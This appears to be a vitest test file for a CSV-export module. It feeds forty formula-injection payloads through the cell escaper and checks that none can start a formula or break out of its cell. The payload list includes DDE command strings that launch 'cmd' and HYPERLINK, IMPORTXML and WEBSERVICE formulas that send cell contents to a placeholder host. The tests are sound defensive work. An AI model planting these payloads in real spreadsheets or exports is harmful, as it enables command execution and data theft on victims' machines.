import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine, unguardText } from "./csv.ts";

/** Forty ways to begin a formula, to break out of a cell, or to look like either. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.test?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://elsewhere.test/?v=",A1),"//a")',
  '=WEBSERVICE("http://elsewhere.test")',
  '=DDE("cmd";"/C calc";"!A0")',
  "==1",
  "= 1",
  "=\t1",
  "=A1,=A2",
  "=A1;=A2",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+44 20 7946 0000",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "--1",
  "- a list's dash",
  "-5",
  "-5.00",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@name",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\0=1+1",
  "'=1+1",
  "''=1+1",
  "'plain",
  "'",
  '"=1+1"',
  '","=1+1',
  '"\r\n=1+1,"',
  ";=1+1",
  "a;=1+1",
  "＝1+1",
  "＠SUM(1)",
  " =1+1 ",
  "",
];

const read = (line: string): string[] => parse(line, { relax_column_count: true, skip_empty_lines: false })[0] ?? [];

describe("a cell of a CSV file", () => {
  it("is tried with 40 payloads", () => expect(new Set(PAYLOADS).size).toBe(40));

  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
    "does not let %s begin a formula or leave its cell, and gives it back",
    (_, payload) => {
      const [before, cell, after] = read(csvLine([csvCell("before"), csvCell(payload), csvCell("after")]));
      expect([before, after]).toEqual(["before", "after"]);
      expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
      expect(unguardText(cell ?? "")).toBe(payload);
    },
  );

  it("keeps the numbers of a numeric column as numbers, negative ones too, and nothing else", () => {
    for (const number of ["0", "-5", "-12.50", "1234567.891"]) expect(csvCell(number, "number")).toBe(number);
    for (const text of ["-5+1", "=5", "+5", "-", "5-", "-1e5"]) expect(csvCell(text, "number")).not.toMatch(/^[=+-]/);
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell(null)).toBe("");
  });

  it("gives back whatever text it was given", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.string({ unit: "binary" }).map((text) => text.replaceAll(/\uFEFF/g, "")),
          { minLength: 2, maxLength: 5 },
        ),
        (texts) => {
          expect(read(csvLine(texts.map((text) => csvCell(text)))).map(unguardText)).toEqual(texts);
        },
      ),
      { numRuns: 40 },
    );
  }, 30_000);
});
